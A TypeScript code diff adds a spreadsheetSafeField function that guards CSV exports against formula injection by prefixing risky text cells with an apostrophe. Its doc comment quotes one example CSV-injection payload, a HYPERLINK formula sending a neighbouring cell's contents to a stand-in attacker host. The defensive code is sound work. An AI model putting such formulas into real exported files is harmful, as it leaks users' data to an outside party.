@@ -154,6 +154,21 @@ export function splitCsvLine(line: string, out: string[], delimiter = ','): numb
   }
 }
 
+/** A cell a spreadsheet would take as a number: left as it is by `spreadsheetSafeField`. */
+const NUMBER_CELL = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
+
+/**
+ * `quoteCsvField` for a file people open in a spreadsheet (a safe copy, an account report): a
+ * text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so
+ * that Excel, LibreOffice and Google Sheets show it as text instead of running it as a formula
+ * (CSV injection: `=HYPERLINK("http://evil.example/?"&A2, "details")` sends the row's neighbour
+ * away when clicked). Numbers, negative ones too, are left alone. Source: OWASP, "CSV Injection".
+ */
+export function spreadsheetSafeField(value: string): string {
+  const risky = /^[=+\-@\t\r]/.test(value) && !NUMBER_CELL.test(value);
+  return quoteCsvField(risky ? `'${value}` : value);
+}
+
 /** Quotes a field only when it needs it (comma, quote, CR/LF or surrounding spaces). */
 export function quoteCsvField(value: string): string {
   if (/[",\r\n]/.test(value) || value.trim() !== value) return `"${value.replace(/"/g, '""')}"`;
